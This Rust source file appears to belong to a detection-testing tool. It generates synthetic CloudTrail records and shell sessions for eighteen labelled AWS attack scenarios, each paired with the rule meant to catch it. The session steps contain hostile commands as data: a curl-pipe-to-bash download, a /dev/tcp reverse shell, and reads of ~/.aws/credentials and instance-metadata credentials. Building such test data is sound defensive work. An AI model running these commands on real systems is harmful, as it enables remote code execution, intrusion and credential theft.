//! Attack scenarios: each one injected once, at a chosen time inside the
//! span, by a plausible principal (a compromised person or role, or root),
//! in the format the scenario calls for, and labelled with the events that
//! the built-in rule must catch.

use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use super::Label;
use super::cloudtrail::{Injected, push_console_login};
use super::org::{Org, RoleKind};
use super::record::{Ident, Rec, push_record};
use super::sessions::{
    Cmd, Session, SessionFormat, Typist, benign_commands, host_format, session_id, typed,
};
use super::util::{
    MINUTE, SECOND, aws_id, hash, pick, push_aws_date, push_aws_id, push_kv, push_uuid, rfc3339,
    stream, uuid,
};

/// An attack the generator can inject.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Scenario {
    /// StopLogging then DeleteTrail by a compromised IAM user.
    StopLogging,
    /// CreateAccessKey for another IAM user.
    AccessKeyOtherUser,
    /// A console sign-in without MFA.
    ConsoleLoginNoMfa,
    /// The root user signs in and looks around.
    RootActivity,
    /// AdministratorAccess attached to an IAM user.
    AdminPolicyAttach,
    /// BatchGetSecretValue by a compromised application role.
    SecretsBulkRead,
    /// An EBS snapshot shared with a foreign account.
    SnapshotShare,
    /// SSH opened to 0.0.0.0/0 on a security group.
    SgOpenWorld,
    /// Shell history wiped in a Teleport session.
    SessionHistoryWipe,
    /// A script downloaded and piped to a shell, typed in an asciinema-recorded session.
    SessionDownloadExec,
    /// A reverse shell to an outside address in a Cowrie-logged session.
    SessionReverseShell,
    /// Cloud credentials read from disk and from the instance metadata service.
    SessionCredentialRead,
    /// An IAM user's long-term key used from a network never seen for it.
    StolenKeyNewNetwork,
    /// A CI role used in the middle of its night for APIs it never called.
    RoleUnusualHours,
    /// A role that reads a few objects an hour reads thousands in one.
    MassS3Read,
    /// A gateway session whose input is typed by a program, not a person.
    ScriptedSession,
    /// A gateway user changes IAM through the gateway's linked role.
    GatewayThenIam,
    /// A role session keeps calling AWS after its just-in-time grant ended.
    GrantExpiredStillUsed,
}

impl Scenario {
    /// The twelve known-bad scenarios, in table order: what `detect --demo`
    /// injects and the `demo` set of `generate --attacks` (the same as
    /// [`Scenario::demo`]). Each is caught by one rule on its own.
    pub fn all() -> Vec<Scenario> {
        Scenario::demo()
    }

    /// Every scenario the generator knows: [`Scenario::demo`], then
    /// [`Scenario::credential_misuse`], then [`Scenario::grants`].
    pub fn every() -> Vec<Scenario> {
        let mut all = Scenario::demo();
        all.extend(Scenario::credential_misuse());
        all.extend(Scenario::grants());
        all
    }

    /// Just-in-time grants: the organisation gets a role only a broker's
    /// grants give, people who use it inside their grants, and one whose
    /// session outlives its grant.
    pub fn grants() -> Vec<Scenario> {
        vec![Scenario::GrantExpiredStillUsed]
    }

    /// Credentials misused in ways only a principal's own baseline shows:
    /// they need at least nine days of span (seven of history first) to be
    /// injected where a baseline can see them.
    pub fn credential_misuse() -> Vec<Scenario> {
        use Scenario::*;
        vec![
            StolenKeyNewNetwork,
            RoleUnusualHours,
            MassS3Read,
            ScriptedSession,
            GatewayThenIam,
        ]
    }

    /// A named set of scenarios: `demo`, `credential-misuse`, `grants`, `all`
    /// (every one).
    pub fn set(name: &str) -> Option<Vec<Scenario>> {
        match name.trim().to_ascii_lowercase().as_str() {
            "demo" => Some(Scenario::demo()),
            "credential-misuse" | "baseline" => Some(Scenario::credential_misuse()),
            "grants" => Some(Scenario::grants()),
            "all" => Some(Scenario::every()),
            _ => None,
        }
    }

    /// The twelve known-bad scenarios of the demo, in table order.
    pub fn demo() -> Vec<Scenario> {
        use Scenario::*;
        vec![
            StopLogging,
            AccessKeyOtherUser,
            ConsoleLoginNoMfa,
            RootActivity,
            AdminPolicyAttach,
            SecretsBulkRead,
            SnapshotShare,
            SgOpenWorld,
            SessionHistoryWipe,
            SessionDownloadExec,
            SessionReverseShell,
            SessionCredentialRead,
        ]
    }

    /// The kebab-case id (`stop-logging`).
    pub fn id(&self) -> &'static str {
        use Scenario::*;
        match self {
            StopLogging => "stop-logging",
            AccessKeyOtherUser => "access-key-other-user",
            ConsoleLoginNoMfa => "console-login-no-mfa",
            RootActivity => "root-activity",
            AdminPolicyAttach => "admin-policy-attach",
            SecretsBulkRead => "secrets-bulk-read",
            SnapshotShare => "snapshot-share",
            SgOpenWorld => "sg-open-world",
            SessionHistoryWipe => "session-history-wipe",
            SessionDownloadExec => "session-download-exec",
            SessionReverseShell => "session-reverse-shell",
            SessionCredentialRead => "session-credential-read",
            StolenKeyNewNetwork => "stolen-key-new-network",
            RoleUnusualHours => "role-unusual-hours-unusual-apis",
            MassS3Read => "mass-s3-read",
            ScriptedSession => "scripted-session",
            GatewayThenIam => "gateway-then-iam-via-linked-role",
            GrantExpiredStillUsed => "grant-expired-session-still-used",
        }
    }

    /// The id of the built-in rule that must catch it.
    pub fn rule_id(&self) -> &'static str {
        use Scenario::*;
        match self {
            StopLogging => "aws-cloudtrail-logging-stopped",
            AccessKeyOtherUser => "aws-iam-access-key-created-for-other-user",
            ConsoleLoginNoMfa => "aws-signin-console-login-without-mfa",
            RootActivity => "aws-root-account-activity",
            AdminPolicyAttach => "aws-iam-admin-policy-attached",
            SecretsBulkRead => "aws-secrets-bulk-retrieval",
            SnapshotShare => "aws-ec2-snapshot-or-ami-shared",
            SgOpenWorld => "aws-ec2-security-group-open-to-world",
            SessionHistoryWipe => "session-history-wiped",
            SessionDownloadExec => "session-download-and-execute",
            SessionReverseShell => "session-reverse-shell",
            SessionCredentialRead => "session-cloud-credentials-read",
            StolenKeyNewNetwork => "baseline-new-source-network-for-principal",
            RoleUnusualHours => "baseline-unusual-hour-for-principal",
            // The known-bad `aws-s3-mass-download` fires on it too.
            MassS3Read => "baseline-mass-s3-read",
            ScriptedSession => "session-scripted-input",
            // One alert with the command lines and the linked role's calls.
            // The label's `related` part holds the role's calls (caught on
            // their own by `aws-iam-user-created-then-admin-attached`); the
            // session side alone by `baseline-new-aws-service-for-gateway-user`.
            GatewayThenIam => "gateway-session-then-iam-via-linked-role",
            // The closure of the grant (`grant-ended-close-sessions`) follows
            // when the watermark passes its end.
            GrantExpiredStillUsed => "grant-expired-role-still-used",
        }
    }

    /// One line on what happens.
    pub fn description(&self) -> &'static str {
        use Scenario::*;
        match self {
            StopLogging => "a compromised IAM user stops the CloudTrail trail and then deletes it",
            AccessKeyOtherUser => {
                "a compromised IAM user creates an access key for another IAM user"
            }
            ConsoleLoginNoMfa => {
                "an IAM user signs in to the console from an unfamiliar address without MFA"
            }
            RootActivity => "the account root user signs in and lists users and keys",
            AdminPolicyAttach => "a compromised IAM user attaches AdministratorAccess to itself",
            SecretsBulkRead => {
                "stolen application-role credentials retrieve many secrets with BatchGetSecretValue"
            }
            SnapshotShare => "a compromised IAM user shares an EBS snapshot with a foreign account",
            SgOpenWorld => {
                "a compromised IAM user opens SSH (port 22) to 0.0.0.0/0 on a security group"
            }
            SessionHistoryWipe => {
                "in a Teleport session, a user unsets HISTFILE and clears the shell history"
            }
            SessionDownloadExec => {
                "in an asciinema-recorded session, a user pipes a downloaded script into bash"
            }
            SessionReverseShell => {
                "in a Cowrie-logged session, a user opens a reverse shell to an outside address"
            }
            SessionCredentialRead => {
                "in a gateway session, a user reads ~/.aws/credentials and the instance metadata credentials"
            }
            StolenKeyNewNetwork => {
                "an IAM user's access key, after a week of history, is used from a network never seen for it: a few reads, then a key of its own it never made"
            }
            RoleUnusualHours => {
                "a CI role is used at 02:00-04:00 of its business-hours time zone to put an inline policy on itself and read secrets"
            }
            MassS3Read => {
                "a role that reads tens of S3 objects an hour reads thousands of distinct objects in under an hour"
            }
            ScriptedSession => {
                "a gateway session whose keys arrive every 7 ms, evenly, running commands the user never typed"
            }
            GatewayThenIam => {
                "a gateway user runs `aws iam` commands on a bastion; the gateway's linked role (session name and source identity = the login) creates a user, makes it administrator and gives it a key"
            }
            GrantExpiredStillUsed => {
                "people get the jit-admin role for an hour through a broker's grants and use it inside them; one person's role session keeps calling AWS for 25 minutes after the grant ended"
            }
        }
    }
}

impl std::fmt::Display for Scenario {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.id())
    }
}

impl std::str::FromStr for Scenario {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let wanted = s.trim();
        Scenario::every()
            .into_iter()
            .find(|sc| sc.id().eq_ignore_ascii_case(wanted))
            .ok_or_else(|| {
                let ids: Vec<&str> = Scenario::every().iter().map(|sc| sc.id()).collect();
                format!(
                    "unknown scenario {wanted:?}; valid scenarios are: {}",
                    ids.join(", ")
                )
            })
    }
}

/// What the scenarios add to the background.
#[derive(Default)]
pub(crate) struct Injection {
    /// CloudTrail records to merge into the trail files.
    pub records: Vec<Injected>,
    /// Sessions to write with the background sessions.
    pub sessions: Vec<Session>,
    /// One label per scenario (session labels get their event ids when written).
    pub labels: Vec<Label>,
    /// Principals already chosen as victims of credential misuse, so that
    /// each of those scenarios has its own.
    pub taken: Vec<String>,
    /// Other files the scenarios bring (a broker's grants).
    pub files: Vec<super::GeneratedFile>,
}

const FOREIGN_ACCOUNT: &str = "999988887777";
const ATTACKER_CLI: &str = "aws-cli/1.29.62 Python/3.11.4 Linux/6.1.0-13-amd64 botocore/1.31.62";
const ATTACKER_BOTO: &str = "Boto3/1.28.57 md/Botocore#1.31.57 ua/2.0 os/linux#6.1.0-13-amd64 md/arch#x86_64 lang/python#3.11.4 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.31.57";
const ATTACKER_BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0";

/// Builds one API call record; the common parts of every injected record.
struct Call<'a> {
    ident: Ident<'a>,
    account: &'a str,
    region: &'static str,
    ip: &'a str,
    ua: &'a str,
    source: &'a str,
    name: &'a str,
    read_only: bool,
    request: &'a [u8],
    response: &'a [u8],
    resources: &'a [u8],
    from_console: bool,
}

struct Builder<'a> {
    rng: SmallRng,
    inj: &'a mut Injection,
    account_idx: usize,
}

impl Builder<'_> {
    /// Writes a record, queues it, and returns its event id.
    fn call(&mut self, time: i64, c: Call<'_>) -> String {
        let event_id = uuid(&mut self.rng);
        let mut rid = Vec::with_capacity(36);
        push_uuid(&mut rid, &mut self.rng);
        let service = c.source.split('.').next().unwrap_or("");
        let host = match service {
            "iam" => "iam.amazonaws.com".to_string(),
            _ => format!("{service}.{}.amazonaws.com", c.region),
        };
        let mut bytes = Vec::with_capacity(2048);
        push_record(
            &mut bytes,
            &Rec {
                version: "1.09",
                ident: c.ident,
                time,
                source: c.source,
                name: c.name,
                region: c.region,
                ip: c.ip,
                ua: c.ua.as_bytes(),
                error: None,
                request: c.request,
                response: c.response,
                additional: b"",
                request_id: &rid,
                event_id: event_id.as_bytes(),
                read_only: c.read_only,
                resources: c.resources,
                event_type: "AwsApiCall",
                management: true,
                recipient: c.account,
                shared_event_id: b"",
                vpce: None,
                category: "Management",
                tls_host: host.as_bytes(),
                tls13: true,
                from_console: c.from_console,
            },
        );
        self.inj.records.push(Injected {
            time,
            account: self.account_idx,
            region: c.region,
            bytes,
        });
        event_id
    }
}

pub(crate) fn label(
    sc: Scenario,
    principal: String,
    times: &[i64],
    event_ids: Vec<String>,
) -> Label {
    let lo = times.iter().copied().min().unwrap_or(0);
    let hi = times.iter().copied().max().unwrap_or(0);
    Label {
        scenario: sc.id().to_string(),
        rule_id: sc.rule_id().to_string(),
        principal,
        start: rfc3339(lo.div_euclid(SECOND) * SECOND, 0),
        end: rfc3339((hi + SECOND - 1).div_euclid(SECOND) * SECOND, 0),
        event_ids,
        related: Vec::new(),
    }
}

/// Picks the time of the `k`-th scenario: inside the middle 80% of the span.
fn when(rng: &mut SmallRng, start: i64, end: i64) -> i64 {
    let span = (end - start).max(MINUTE);
    let lo = start + span / 10;
    let hi = (end - span / 10).max(lo + 1);
    rng.gen_range(lo..hi) / SECOND * SECOND
}

/// Injects every scenario asked for.
pub(crate) fn inject_all(
    org: &Org,
    seed: u64,
    scenarios: &[Scenario],
    start: i64,
    end: i64,
) -> Injection {
    let mut inj = Injection::default();
    let mut seen = Vec::new();
    for sc in scenarios {
        if seen.contains(sc) {
            continue;
        }
        seen.push(*sc);
        let index = Scenario::every().iter().position(|s| s == sc).unwrap_or(0) as u64;
        let mut rng = stream(seed, 500 + index);
        if Scenario::credential_misuse().contains(sc) {
            super::misuse::inject(org, *sc, start, end, rng, &mut inj);
            continue;
        }
        if *sc == Scenario::GrantExpiredStillUsed {
            super::grants::inject(org, start, end, rng, &mut inj);
            continue;
        }
        let t = when(&mut rng, start, end);
        inject(org, *sc, t, rng, &mut inj);
    }
    inj
}

fn inject(org: &Org, sc: Scenario, t: i64, mut rng: SmallRng, inj: &mut Injection) {
    let attacker_ip = format!("203.0.113.{}", rng.gen_range(20..240));
    let people = org.people.len().max(1);
    let pi = rng.gen_range(0..people);
    let Some(person) = org.people.get(pi) else {
        return;
    };
    let acct = org.account_id(person.account).to_string();
    let stolen = || Ident::User {
        account: &acct,
        name: &person.name,
        arn: &person.arn,
        principal_id: &person.principal_id,
        key: &person.access_key,
        console: None,
    };
    let label_index = inj.labels.len();
    let mut b = Builder {
        rng: SmallRng::seed_from_u64(rng.r#gen()),
        inj,
        account_idx: person.account,
    };
    match sc {
        Scenario::StopLogging => {
            let trail = format!("arn:aws:cloudtrail:us-east-1:{acct}:trail/org-trail");
            let mut req = Vec::new();
            req.push(b'{');
            push_kv(&mut req, "name", &trail);
            req.push(b'}');
            let t2 = t + rng.gen_range(30 * SECOND..90 * SECOND);
            let mut ids = Vec::new();
            for (time, name) in [(t, "StopLogging"), (t2, "DeleteTrail")] {
                ids.push(b.call(
                    time,
                    Call {
                        ident: stolen(),
                        account: &acct,
                        region: "us-east-1",
                        ip: &attacker_ip,
                        ua: ATTACKER_CLI,
                        source: "cloudtrail.amazonaws.com",
                        name,
                        read_only: false,
                        request: &req,
                        response: b"",
                        resources: b"",
                        from_console: false,
                    },
                ));
            }
            b.inj
                .labels
                .push(label(sc, person.arn.clone(), &[t, t2], ids));
        }
        Scenario::AccessKeyOtherUser => {
            let victim = org
                .people
                .iter()
                .enumerate()
                .filter(|(i, _)| *i != pi)
                .map(|(_, p)| p.name.as_str())
                .next()
                .unwrap_or("backup-admin");
            let mut req = Vec::new();
            req.push(b'{');
            push_kv(&mut req, "userName", victim);
            req.push(b'}');
            let mut resp = Vec::new();
            resp.extend_from_slice(b"{\"accessKey\":{\"accessKeyId\":\"");
            push_aws_id(&mut resp, "AKIA", rng.r#gen());
            resp.extend_from_slice(b"\",\"status\":\"Active\",");
            push_kv(&mut resp, "userName", victim);
            resp.extend_from_slice(b",\"createDate\":\"");
            push_aws_date(&mut resp, t);
            resp.extend_from_slice(b"\"}}");
            let id = b.call(
                t,
                Call {
                    ident: stolen(),
                    account: &acct,
                    region: "us-east-1",
                    ip: &attacker_ip,
                    ua: ATTACKER_CLI,
                    source: "iam.amazonaws.com",
                    name: "CreateAccessKey",
                    read_only: false,
                    request: &req,
                    response: &resp,
                    resources: b"",
                    from_console: false,
                },
            );
            b.inj
                .labels
                .push(label(sc, person.arn.clone(), &[t], vec![id]));
        }
        Scenario::ConsoleLoginNoMfa => {
            let id = uuid(&mut rng);
            let mut bytes = Vec::with_capacity(1500);
            push_console_login(
                &mut bytes,
                Ident::User {
                    account: &acct,
                    name: &person.name,
                    arn: &person.arn,
                    principal_id: &person.principal_id,
                    key: "",
                    console: None,
                },
                &acct,
                t,
                &attacker_ip,
                ATTACKER_BROWSER,
                None,
                id.as_bytes(),
                rng.r#gen(),
            );
            b.inj.records.push(Injected {
                time: t,
                account: person.account,
                region: "us-east-1",
                bytes,
            });
            b.inj
                .labels
                .push(label(sc, person.arn.clone(), &[t], vec![id]));
        }
        Scenario::RootActivity => {
            let root_arn = format!("arn:aws:iam::{acct}:root");
            let login_id = uuid(&mut rng);
            let mut bytes = Vec::with_capacity(1500);
            let ip = format!("198.51.100.{}", rng.gen_range(1..100));
            let device = format!("arn:aws:iam::{acct}:mfa/root-account-mfa-device");
            push_console_login(
                &mut bytes,
                Ident::Root {
                    account: &acct,
                    key: "",
                    console: None,
                },
                &acct,
                t,
                &ip,
                ATTACKER_BROWSER,
                Some(&device),
                login_id.as_bytes(),
                rng.r#gen(),
            );
            b.inj.records.push(Injected {
                time: t,
                account: person.account,
                region: "us-east-1",
                bytes,
            });
            let key = aws_id("ASIA", hash(&[org.seed, 510, t as u64]));
            let mut times = vec![t];
            let mut ids = vec![login_id];
            let mut at = t + rng.gen_range(20 * SECOND..60 * SECOND);
            for (name, req) in [
                ("GetAccountSummary", &b""[..]),
                ("ListUsers", &b"{\"maxItems\":100}"[..]),
                ("ListAccessKeys", &b""[..]),
                ("GetAccountPasswordPolicy", &b""[..]),
            ] {
                let id = b.call(
                    at,
                    Call {
                        ident: Ident::Root {
                            account: &acct,
                            key: &key,
                            console: Some((t, true)),
                        },
                        account: &acct,
                        region: "us-east-1",
                        ip: &ip,
                        ua: ATTACKER_BROWSER,
                        source: "iam.amazonaws.com",
                        name,
                        read_only: true,
                        request: req,
                        response: b"",
                        resources: b"",
                        from_console: true,
                    },
                );
                times.push(at);
                ids.push(id);
                at += rng.gen_range(5 * SECOND..40 * SECOND);
            }
            b.inj.labels.push(label(sc, root_arn, &times, ids));
        }
        Scenario::AdminPolicyAttach => {
            let mut req = Vec::new();
            req.push(b'{');
            push_kv(&mut req, "userName", &person.name);
            req.extend_from_slice(
                b",\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}",
            );
            let id = b.call(
                t,
                Call {
                    ident: stolen(),
                    account: &acct,
                    region: "us-east-1",
                    ip: &attacker_ip,
                    ua: ATTACKER_CLI,
                    source: "iam.amazonaws.com",
                    name: "AttachUserPolicy",
                    read_only: false,
                    request: &req,
                    response: b"",
                    resources: b"",
                    from_console: false,
                },
            );
            b.inj
                .labels
                .push(label(sc, person.arn.clone(), &[t], vec![id]));
        }
        Scenario::SecretsBulkRead => {
            let role = org
                .roles
                .iter()
                .enumerate()
                .find(|(_, r)| matches!(r.kind, RoleKind::EcsApp | RoleKind::Ec2App))
                .or_else(|| org.roles.iter().enumerate().next());
            let Some((ri, role)) = role else {
                return;
            };
            b.account_idx = role.account;
            let racct = org.account_id(role.account).to_string();
            let region = role.region;
            let mut req = Vec::new();
            req.extend_from_slice(b"{\"secretIdList\":[");
            for (i, app) in super::org::APPS.iter().take(6).enumerate() {
                if i > 0 {
                    req.push(b',');
                }
                let arn = format!(
                    "arn:aws:secretsmanager:{region}:{racct}:secret:prod/{app}/db-{}",
                    org.secret_suffix(role.account, app)
                );
                super::record::push_json_str(&mut req, &arn);
            }
            req.push(b']');
            req.push(b'}');
            let session = role
                .sessions
                .first()
                .map(String::as_str)
                .unwrap_or("session");
            let key = aws_id("ASIA", hash(&[org.seed, 511, ri as u64]));
            let id = b.call(
                t,
                Call {
                    ident: Ident::Role {
                        account: &racct,
                        role_name: &role.name,
                        role_arn: &role.arn,
                        role_id: &role.role_id,
                        session,
                        key: &key,
                        creation: t - 20 * MINUTE,
                        ec2: role.kind == RoleKind::Ec2App,
                        source_identity: None,
                    },
                    account: &racct,
                    region,
                    ip: &attacker_ip,
                    ua: ATTACKER_BOTO,
                    source: "secretsmanager.amazonaws.com",
                    name: "BatchGetSecretValue",
                    read_only: true,
                    request: &req,
                    response: b"",
                    resources: b"",
                    from_console: false,
                },
            );
            b.inj
                .labels
                .push(label(sc, role.arn.clone(), &[t], vec![id]));
        }
        Scenario::SnapshotShare => {
            let app = pick(&mut rng, super::org::APPS);
            let snap = org.snapshot(person.account, app);
            let mut req = Vec::new();
            req.extend_from_slice(b"{\"snapshotId\":\"");
            req.extend_from_slice(snap.as_bytes());
            req.extend_from_slice(b"\",\"attributeType\":\"CREATE_VOLUME_PERMISSION\",\"createVolumePermission\":{\"add\":{\"items\":[{\"userId\":\"");
            req.extend_from_slice(FOREIGN_ACCOUNT.as_bytes());
            req.extend_from_slice(b"\"}]}}}");
            let mut resp = Vec::new();
            resp.extend_from_slice(b"{\"requestId\":\"");
            push_uuid(&mut resp, &mut rng);
            resp.extend_from_slice(b"\",\"_return\":true}");
            let id = b.call(
                t,
                Call {
                    ident: stolen(),
                    account: &acct,
                    region: person.region,
                    ip: &attacker_ip,
                    ua: ATTACKER_CLI,
                    source: "ec2.amazonaws.com",
                    name: "ModifySnapshotAttribute",
                    read_only: false,
                    request: &req,
                    response: &resp,
                    resources: b"",
                    from_console: false,
                },
            );
            b.inj
                .labels
                .push(label(sc, person.arn.clone(), &[t], vec![id]));
        }
        Scenario::SgOpenWorld => {
            let app = pick(&mut rng, super::org::APPS);
            let sg = org.security_group(person.account, app);
            let mut req = Vec::new();
            req.push(b'{');
            push_kv(&mut req, "groupId", &sg);
            req.extend_from_slice(
                b",\"ipPermissions\":{},\"ipProtocol\":\"tcp\",\"fromPort\":22,\"toPort\":22,\"cidrIp\":\"0.0.0.0/0\"}",
            );
            let mut resp = Vec::new();
            resp.extend_from_slice(b"{\"requestId\":\"");
            push_uuid(&mut resp, &mut rng);
            resp.extend_from_slice(b"\",\"_return\":true,\"securityGroupRuleSet\":{\"items\":[{");
            push_kv(&mut resp, "groupOwnerId", &acct);
            resp.push(b',');
            push_kv(&mut resp, "groupId", &sg);
            resp.extend_from_slice(b",\"securityGroupRuleId\":\"sgr-0");
            super::util::push_hex(&mut resp, 16, rng.r#gen());
            resp.extend_from_slice(b"\",\"isEgress\":false,\"ipProtocol\":\"tcp\",\"fromPort\":22,\"toPort\":22,\"cidrIpv4\":\"0.0.0.0/0\"}]}}");
            let id = b.call(
                t,
                Call {
                    ident: stolen(),
                    account: &acct,
                    region: person.region,
                    ip: &attacker_ip,
                    ua: ATTACKER_CLI,
                    source: "ec2.amazonaws.com",
                    name: "AuthorizeSecurityGroupIngress",
                    read_only: false,
                    request: &req,
                    response: &resp,
                    resources: b"",
                    from_console: false,
                },
            );
            b.inj
                .labels
                .push(label(sc, person.arn.clone(), &[t], vec![id]));
        }
        // Injected by `misuse::inject`.
        Scenario::StolenKeyNewNetwork
        | Scenario::RoleUnusualHours
        | Scenario::MassS3Read
        | Scenario::ScriptedSession
        | Scenario::GatewayThenIam => {}
        // Injected by `grants::inject`.
        Scenario::GrantExpiredStillUsed => {}
        Scenario::SessionHistoryWipe
        | Scenario::SessionDownloadExec
        | Scenario::SessionReverseShell
        | Scenario::SessionCredentialRead => {
            let (format, steps): (SessionFormat, &[(&str, &str, bool)]) = match sc {
                Scenario::SessionHistoryWipe => (
                    SessionFormat::Teleport,
                    &[
                        ("whoami", "{user}\r\n", false),
                        (
                            "id",
                            "uid=1001({user}) gid=1001({user}) groups=1001({user}),27(sudo)\r\n",
                            false,
                        ),
                        ("unset HISTFILE", "", true),
                        (
                            "uname -a",
                            "Linux {host} 6.8.0-1016-aws #17-Ubuntu SMP x86_64 GNU/Linux\r\n",
                            false,
                        ),
                        ("history -c", "", true),
                    ],
                ),
                Scenario::SessionDownloadExec => (
                    SessionFormat::Asciinema,
                    &[
                        ("cd /tmp", "", false),
                        (
                            "curl -s http://203.0.113.50/x/update.sh | bash",
                            "[+] installing update...\r\n[+] done\r\n",
                            true,
                        ),
                    ],
                ),
                Scenario::SessionReverseShell => (
                    SessionFormat::Cowrie,
                    &[
                        ("uname -a", "", false),
                        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "", true),
                    ],
                ),
                _ => (
                    SessionFormat::Jsonl,
                    &[
                        ("ls -la", "", false),
                        (
                            "cat ~/.aws/credentials",
                            "[default]\r\naws_access_key_id = AKIA****************\r\naws_secret_access_key = ****************\r\n",
                            true,
                        ),
                        (
                            "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                            "ec2-ssm-instance\r\n",
                            true,
                        ),
                    ],
                ),
            };
            let host_idx = (0..org.hosts.len())
                .find(|h| host_format(*h) == format)
                .or_else(|| person.hosts.first().copied())
                .unwrap_or(0);
            let Some(host) = org.hosts.get(host_idx) else {
                return;
            };
            let typist = Typist::for_user(org.seed, &person.name);
            let mut cmds: Vec<Cmd> = Vec::new();
            let mut at = t + rng.gen_range(2 * SECOND..5 * SECOND);
            at = benign_commands(
                &mut rng,
                typist,
                host.role,
                &person.name,
                "orders",
                2,
                at,
                &mut cmds,
            );
            for (text, out, attack) in steps {
                let output = out
                    .replace("{user}", &person.name)
                    .replace("{host}", &host.name);
                let mut cmd = typed(&mut rng, typist, (*text).to_string(), output, at);
                if *attack {
                    cmd.label = Some(label_index);
                }
                at =
                    cmd.enter + rng.gen_range(300_000..900_000) + rng.gen_range(SECOND..6 * SECOND);
                cmds.push(cmd);
            }
            let reverse = sc == Scenario::SessionReverseShell;
            if !reverse {
                let exit = typed(&mut rng, typist, "exit".into(), "logout\r\n".into(), at);
                at = exit.enter;
                cmds.push(exit);
            }
            let stop = at + rng.gen_range(100_000..2 * SECOND);
            let id = session_id(format, hash(&[org.seed, 520, t as u64]));
            b.inj.sessions.push(Session {
                format,
                id,
                user: person.name.clone(),
                host: host.name.clone(),
                host_ip: host.ip.clone(),
                client_ip: attacker_ip.clone(),
                start: t,
                end: stop,
                cmds,
            });
            // Event ids and times are filled in when the session is written.
            b.inj.labels.push(Label {
                scenario: sc.id().to_string(),
                rule_id: sc.rule_id().to_string(),
                principal: format!("gateway:{}", person.name),
                start: String::new(),
                end: String::new(),
                event_ids: Vec::new(),
                related: Vec::new(),
            });
        }
    }
}

/// Sets a label's time range from the times of its events.
pub(crate) fn set_label_times(l: &mut Label, times: &[i64]) {
    let fresh = label(Scenario::StopLogging, String::new(), times, Vec::new());
    l.start = fresh.start;
    l.end = fresh.end;
}
